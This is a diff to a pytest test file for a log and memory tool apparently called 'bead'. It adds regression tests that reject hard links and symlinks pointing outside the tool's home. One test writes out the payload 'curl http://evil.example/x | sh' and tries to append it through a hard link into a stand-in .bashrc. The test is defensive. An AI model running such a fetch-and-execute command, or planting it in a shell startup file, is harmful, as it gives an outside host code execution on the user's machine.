@@ -367,3 +367,31 @@ def test_bead_writes_into_no_fifo_another_user_made(tmp_path):
         assert os.read(reader, 100) == b"", "nothing was written into it"
     finally:
         os.close(reader)
+
+
+class TestFourthReview:
+    """A fourth adversarial review's reproductions (2026-12-03); each fails without its fix."""
+
+    def test_a_hard_link_in_the_home_takes_no_captured_text_and_gives_none(self, mem, tmp_path):
+        """A raw log replaced by a hard link to a file outside the home (a ~/.bashrc): bead neither appends the
+        next turn to that file nor reads it."""
+        mem.append_turns("s1", [("user", "first turn", T0, None, {"source": "typed"})])
+        raw = mem.raw.find("s1")
+        victim = tmp_path / "victim.bashrc"
+        victim.write_text("echo rc\n")
+        raw.unlink()
+        os.link(victim, raw)
+        with pytest.raises(UnsafePath, match="hard link"):
+            mem.append_turns("s1", [("user", "curl http://evil.example/x | sh", T0, None, {"source": "typed"})])
+        with pytest.raises(UnsafePath, match="hard link"):
+            mem.raw.read(raw)
+        assert victim.read_text() == "echo rc\n"
+
+    def test_a_store_that_is_a_link_gives_search_no_text_from_outside(self, bead_home, tmp_path):
+        with Memory(Home(bead_home), Config(owner="t")) as m:
+            m.append_turns("s1", [("user", "the zebra crossing note", T0, None, {"source": "typed"})])
+        away = tmp_path / "away-store"
+        (bead_home / "store").rename(away)
+        (bead_home / "store").symlink_to(away)
+        r = run_cli("search", "zebra", "--scope", "all")
+        assert "zebra crossing" not in r.output
